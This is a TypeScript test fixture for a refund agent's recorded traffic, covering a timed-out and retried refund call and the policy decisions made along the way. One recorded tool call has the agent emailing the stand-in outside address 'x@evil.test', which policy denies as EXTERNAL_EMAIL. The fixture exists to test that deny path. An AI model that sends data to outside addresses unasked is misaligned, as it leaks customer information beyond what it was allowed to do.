import {recordedTrace} from '../../src/runtime/recorded.js'
import {createRedactor} from '../../src/runtime/redact.js'
import type {RequestTrace} from '../../src/runtime/trace.js'
import {TrafficRecord} from '../../src/traffic/schema.js'
import type {Bundle} from '../../src/bundle/schema.js'

/** A recorded request with a retried timeout, a denied write and a pre-model decision. */
export function refundRecord(over: Record<string, unknown> = {}): TrafficRecord {
  return TrafficRecord.parse({
    id: 'req-000054',
    timestamp: '2025-07-02T00:59:01Z',
    tenant: 'acme',
    user: 'acme-agent-04',
    role: 'agent',
    session_id: 'sess-acme-1',
    input: [{role: 'user', content: 'Order ORD-100030 is defective. I would like a refund of $118.75.'}],
    production: {
      bundle: 'support-refunds@1.4.0',
      tool_calls: [
        {id: 'c1', name: 'lookup_order', args: {order_id: 'ORD-100030'}, result: {order_id: 'ORD-100030', amount: 118.75, items: [1, 2]}, latency_ms: 107, attempt: 1},
        {id: 'c2', name: 'issue_refund', args: {order_id: 'ORD-100030', amount: 118.75}, latency_ms: 5000, attempt: 1, idempotency_key: 'idem-1', error: {code: 'timeout', message: 'upstream did not answer within 5000 ms'}},
        {id: 'c3', name: 'issue_refund', args: {order_id: 'ORD-100030', amount: 118.75}, latency_ms: 401.5, attempt: 2, idempotency_key: 'idem-1', result: {refund_id: 'RF-1', status: 'processed'}},
        {id: 'c4', name: 'send_email', args: {to: 'x@evil.test', subject: 's', body: 'b'}, latency_ms: 0, attempt: 1},
      ],
      policy_decisions: [
        {stage: 'pre_model', decision: 'allow', reason: 'INPUT_OK'},
        {stage: 'mid_run', tool_call_id: 'c1', tool: 'lookup_order', decision: 'allow', reason: 'READ_ALLOWED'},
        {stage: 'mid_run', tool_call_id: 'c2', tool: 'issue_refund', decision: 'allow', reason: 'WRITE_ALLOWED'},
        {stage: 'mid_run', tool_call_id: 'c3', tool: 'issue_refund', decision: 'allow', reason: 'WRITE_ALLOWED'},
        {stage: 'mid_run', tool_call_id: 'c4', tool: 'send_email', decision: 'deny', reason: 'EXTERNAL_EMAIL'},
      ],
      final_answer: 'I have issued a refund of $118.75 for order ORD-100030 (refund RF-1).',
      outcome: 'completed',
      usage: {input_tokens: 2351, output_tokens: 104},
      latency_ms: 6879,
      cost_usd: 0.001332,
    },
    labels: {category: 'tool_error_retry'},
    ...over,
  })
}

export function recorded(record: TrafficRecord, bundle?: Bundle): RequestTrace {
  return recordedTrace(record, 1, createRedactor(), bundle)
}
